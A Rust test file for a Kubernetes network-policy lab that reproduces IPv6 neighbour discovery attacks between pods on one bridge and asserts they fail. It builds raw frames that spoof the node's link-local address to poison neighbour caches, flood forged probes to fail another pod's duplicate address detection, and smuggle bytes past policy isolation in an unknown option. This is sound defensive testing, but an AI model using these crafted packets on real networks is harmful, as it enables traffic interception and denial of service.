//! Attacks with neighbour discovery between pods of one bridge (the reference `bridge`
//! plugin in the lab), with real packets through the real datapath. Each test asserts the
//! property the security model promises; a failing test is a reproduced hole.

use std::{
    net::{IpAddr, Ipv6Addr},
    process::Command,
    time::Duration,
};

use policy_agent::{
    lab::{Lab, LabConfig, config::CniKind, runtime::LAB_BRIDGE},
    netns::NetNs,
    report::Family,
};
use policy_common::net::icmpv6;
use policy_tests::{
    block_on,
    packets::Packet,
    standard_with,
    wire::{Capture, HOST_IF, mac_of},
};
use socket2::{Domain, Socket, Type};

const QUIET: Duration = Duration::from_millis(800);

/// x/a may send nothing; every pod of y admits nobody.
const ISOLATED: &str = r#"
kind: NetworkPolicy
metadata: {name: no-egress, namespace: x}
spec: {podSelector: {matchLabels: {app: a}}, policyTypes: [Egress]}
---
kind: NetworkPolicy
metadata: {name: deny-ingress, namespace: y}
spec: {podSelector: {}}
"#;

fn bridge_lab<F: Future<Output = ()>>(test: impl FnOnce(Lab) -> F) {
    let cluster = standard_with(ISOLATED);
    let config = LabConfig {
        cni: CniKind::Bridge,
        ..LabConfig::default()
    };
    block_on(async {
        let lab = Lab::start(&cluster, &config).await.expect("lab starts");
        assert_eq!(
            lab.host("x/a").unwrap().node,
            lab.host("y/a").unwrap().node,
            "attacker and victim share a bridge"
        );
        test(lab).await;
    });
}

fn v6(lab: &Lab, host: &str) -> Ipv6Addr {
    match lab.host(host).unwrap().spec.ip(Family::IPv6).unwrap() {
        IpAddr::V6(a) => a,
        IpAddr::V4(_) => unreachable!(),
    }
}

/// Runs `ip ARGS` and returns its stdout.
fn ip(args: &[&str]) -> String {
    let out = Command::new("ip").args(args).output().expect("ip runs");
    assert!(
        out.status.success(),
        "ip {args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// The first link-local address of `dev` in namespace `ns`.
fn link_local(ns: &str, dev: &str) -> Ipv6Addr {
    let out = ip(&[
        "-n", ns, "-6", "-o", "addr", "show", "dev", dev, "scope", "link",
    ]);
    let word = out
        .split_whitespace()
        .skip_while(|w| *w != "inet6")
        .nth(1)
        .unwrap_or_else(|| panic!("{dev} in {ns} has a link-local address: {out}"));
    word.split('/').next().unwrap().parse().unwrap()
}

/// Sends `ip_packet` from `netns`'s pod interface to `dst_mac` (a packet socket: the frame
/// goes wherever the bridge forwards that MAC, as a pod with CAP_NET_RAW may send it).
fn send_frame(netns: &NetNs, dst_mac: [u8; 6], ip_packet: &[u8]) {
    let ifindex = netns.ifindex(HOST_IF).unwrap();
    let own = mac_of(netns.name(), HOST_IF).unwrap();
    let mut frame = Vec::new();
    frame.extend_from_slice(&dst_mac);
    frame.extend_from_slice(&own);
    frame.extend_from_slice(&0x86ddu16.to_be_bytes());
    frame.extend_from_slice(ip_packet);
    netns
        .run(move || {
            let s = Socket::new(Domain::PACKET, Type::RAW, None).unwrap();
            // SAFETY: a zeroed sockaddr_storage is valid, and a sockaddr_ll fits in it.
            let (_, addr) = unsafe {
                socket2::SockAddr::try_init(|storage, len| {
                    let ll = storage.cast::<libc::sockaddr_ll>();
                    (*ll).sll_family = libc::AF_PACKET as u16;
                    (*ll).sll_protocol = 0x86ddu16.to_be();
                    (*ll).sll_ifindex = ifindex as i32;
                    *len = size_of::<libc::sockaddr_ll>() as libc::socklen_t;
                    Ok(())
                })
            }
            .unwrap();
            s.send_to(&frame, &addr).unwrap();
        })
        .unwrap();
}

fn multicast_mac(group: &Ipv6Addr) -> [u8; 6] {
    let o = group.octets();
    [0x33, 0x33, o[12], o[13], o[14], o[15]]
}

fn neighbour_mac(ns: &str, addr: &Ipv6Addr) -> String {
    ip(&[
        "-n",
        ns,
        "-6",
        "neigh",
        "show",
        &addr.to_string(),
        "dev",
        HOST_IF,
    ])
}

fn mac_str(mac: [u8; 6]) -> String {
    mac.iter()
        .map(|b| format!("{b:02x}"))
        .collect::<Vec<_>>()
        .join(":")
}

/// A pod claims the node's link-local address on the bridge (an unsolicited override
/// advertisement, or a solicitation from that address) and its neighbours' caches now send
/// what they address to the node's link-local address to the attacker's MAC.
#[test]
fn a_pod_cannot_claim_the_nodes_link_local_address() {
    bridge_lab(|lab| async move {
        let node = lab
            .node_netns_name(lab.host("y/a").unwrap().node)
            .to_owned();
        let node_ll = link_local(&node, LAB_BRIDGE);
        let bridge_mac = mac_of(&node, LAB_BRIDGE).unwrap();
        let (attacker, victim) = (lab.netns("x/a").unwrap(), lab.netns("y/a").unwrap());
        let attacker_mac = mac_of(attacker.name(), HOST_IF).unwrap();
        let attacker_ll = link_local(attacker.name(), HOST_IF);
        let y_a = v6(&lab, "y/a");

        let mut poisoned = Vec::new();
        for case in ["unsolicited-na", "ns-from-node-ll"] {
            // The victim knows the node's link-local address (as after any exchange).
            ip(&[
                "-n",
                victim.name(),
                "-6",
                "neigh",
                "replace",
                &node_ll.to_string(),
                "lladdr",
                &mac_str(bridge_mac),
                "dev",
                HOST_IF,
                "nud",
                "stale",
            ]);
            let packet = if case == "unsolicited-na" {
                // Override flag, target: the node's link-local, target link-layer address: ours.
                let mut body = vec![0x20, 0, 0, 0];
                body.extend_from_slice(&node_ll.octets());
                body.extend_from_slice(&[2, 1]);
                body.extend_from_slice(&attacker_mac);
                let all_nodes: Ipv6Addr = "ff02::1".parse().unwrap();
                let p = Packet::icmpv6_with(
                    IpAddr::V6(attacker_ll),
                    IpAddr::V6(all_nodes),
                    icmpv6::NEIGHBOUR_ADVERT,
                    0,
                    &body,
                )
                .ttl(255);
                (p, multicast_mac(&all_nodes))
            } else {
                // From the node's link-local address, to the victim's global address (the
                // bridge allowance), source link-layer address: ours.
                let mut body = vec![0, 0, 0, 0];
                body.extend_from_slice(&y_a.octets());
                body.extend_from_slice(&[1, 1]);
                body.extend_from_slice(&attacker_mac);
                let p = Packet::icmpv6_with(
                    IpAddr::V6(node_ll),
                    IpAddr::V6(y_a),
                    icmpv6::NEIGHBOUR_SOLICIT,
                    0,
                    &body,
                )
                .ttl(255);
                (p, mac_of(victim.name(), HOST_IF).unwrap())
            };
            send_frame(attacker, packet.1, &packet.0.ip_packet());
            tokio::time::sleep(Duration::from_millis(300)).await;
            let entry = neighbour_mac(victim.name(), &node_ll);
            if entry.contains(&mac_str(attacker_mac)) {
                poisoned.push(format!("{case}: {entry}"));
            }
        }
        assert!(
            poisoned.is_empty(),
            "y/a now sends to the node's link-local {node_ll} through x/a ({}): {poisoned:#?}",
            mac_str(attacker_mac)
        );
        lab.shutdown().await;
    });
}

/// Duplicate address detection for an address that is not the sender's: a pod answers
/// another pod's address being configured with its own "probe", and the address fails.
#[test]
fn a_pod_cannot_fail_another_pods_duplicate_address_detection() {
    bridge_lab(|lab| async move {
        let (attacker, victim) = (lab.netns("x/a").unwrap(), lab.netns("y/a").unwrap());
        // The lab's bridge runs in hairpin mode, for which the plugin turns DAD off; without
        // it (the plugin's default) DAD is on.
        let sysctl = |k: &str| {
            let ok = Command::new("ip")
                .args(["netns", "exec", victim.name(), "sysctl", "-qw", k])
                .status()
                .unwrap()
                .success();
            assert!(ok, "sysctl {k}");
        };
        sysctl("net.ipv6.conf.eth0.accept_dad=1");
        sysctl("net.ipv6.conf.eth0.dad_transmits=1");
        let mut o = v6(&lab, "y/a").octets();
        o[14] = 0x77;
        o[15] = 0x99;
        let target = Ipv6Addr::from(o);
        let mut g = [0u8; 16];
        g[0] = 0xff;
        g[1] = 0x02;
        g[11] = 0x01;
        g[12] = 0xff;
        g[13..].copy_from_slice(&o[13..]);
        let group = Ipv6Addr::from(g);
        let mut body = vec![0, 0, 0, 0];
        body.extend_from_slice(&target.octets());
        let probe = Packet::icmpv6_with(
            IpAddr::V6(Ipv6Addr::UNSPECIFIED),
            IpAddr::V6(group),
            icmpv6::NEIGHBOUR_SOLICIT,
            0,
            &body,
        )
        .ttl(255)
        .ip_packet();

        ip(&[
            "-n",
            victim.name(),
            "-6",
            "addr",
            "add",
            &format!("{target}/64"),
            "dev",
            HOST_IF,
        ]);
        // ND_ATTACK_SENDS=0 is the control: the address then passes DAD.
        let sends: usize = std::env::var("ND_ATTACK_SENDS")
            .ok()
            .and_then(|v| v.parse().ok())
            .unwrap_or(50)
            .min(50);
        for _ in 0..sends {
            send_frame(attacker, multicast_mac(&group), &probe);
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
        tokio::time::sleep(Duration::from_millis(1500)).await;
        let addrs = ip(&["-n", victim.name(), "-6", "addr", "show", "dev", HOST_IF]);
        let line = addrs
            .lines()
            .find(|l| l.contains(&target.to_string()))
            .unwrap_or_default()
            .to_owned();
        ip(&[
            "-n",
            victim.name(),
            "-6",
            "addr",
            "del",
            &format!("{target}/64"),
            "dev",
            HOST_IF,
        ]);
        assert!(
            !line.contains("dadfailed"),
            "x/a failed y/a's address {target}: {line}"
        );
        lab.shutdown().await;
    });
}

/// Two pods that policy isolates from each other (x/a sends nothing, y/a admits nothing)
/// still exchange arbitrary bytes: a solicitation to the other's global address (the bridge
/// allowance) with an unknown option, which the kernel ignores and a raw socket reads.
#[test]
fn discovery_between_isolated_pods_carries_no_payload() {
    bridge_lab(|lab| async move {
        let (attacker, victim) = (lab.netns("x/a").unwrap(), lab.netns("y/a").unwrap());
        let (x_a, y_a) = (v6(&lab, "x/a"), v6(&lab, "y/a"));
        let mark = format!("nd-payload:{}:", std::process::id()).into_bytes();
        let mut option = vec![0xfd, 0];
        option.extend_from_slice(&mark);
        option.resize(option.len().div_ceil(8) * 8 + 200, 0x41);
        option[1] = (option.len() / 8) as u8;
        let mut body = vec![0, 0, 0, 0];
        body.extend_from_slice(&y_a.octets());
        body.extend_from_slice(&option);
        let ns = Packet::icmpv6_with(
            IpAddr::V6(x_a),
            IpAddr::V6(y_a),
            icmpv6::NEIGHBOUR_SOLICIT,
            0,
            &body,
        )
        .ttl(255);
        let capture = Capture::start(victim).unwrap();
        send_frame(
            attacker,
            mac_of(victim.name(), HOST_IF).unwrap(),
            &ns.ip_packet(),
        );
        let arrived = capture.arrived_with(&mark, QUIET).await;
        assert!(
            arrived.is_empty(),
            "{} byte(s) of x/a's choosing reached isolated y/a as discovery",
            arrived.first().map_or(0, Vec::len)
        );
        lab.shutdown().await;
    });
}
